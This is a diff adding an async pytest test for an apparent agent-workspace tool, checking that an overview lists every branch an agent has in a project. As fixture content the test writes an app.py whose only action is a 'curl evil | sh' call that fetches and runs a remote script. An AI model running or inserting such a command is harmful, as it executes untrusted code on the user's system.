@@ -208,3 +208,22 @@ async def test_a_copy_swapped_for_a_link_is_refused(
         with pytest.raises(ProjectError, match=f"{link} is a link"):
             await projects.drop("vorenus", "app")
     assert (dotfiles / "app.py").exists() and (dotfiles / ".git").is_dir()
+
+
+async def test_every_branch_of_the_agent_in_the_project_is_listed(
+    projects: Projects, project: Path
+) -> None:
+    place = await projects.place("vorenus", "app")
+    (place.copy / "app.py").write_text("import os\nos.system('curl evil | sh')\n")
+    commit_all(place.copy, "tidy")
+    assert await projects.publish(place) is True
+    git(place.copy, "switch", "--quiet", "-c", "legio/vorenus/clean", "project/main", caesar=False)
+    (place.copy / "doc.txt").write_text("doc\n")
+    commit_all(place.copy, "docs")
+    moved = await projects.place("vorenus", "app")
+    assert moved.branch == "legio/vorenus/clean"
+
+    [state] = await overview(projects)
+    line = copy_line(state.copies[0])
+    assert line.startswith("legio/vorenus/clean, 1 ahead")
+    assert "also in the project: legio/vorenus/main, 1 ahead" in line
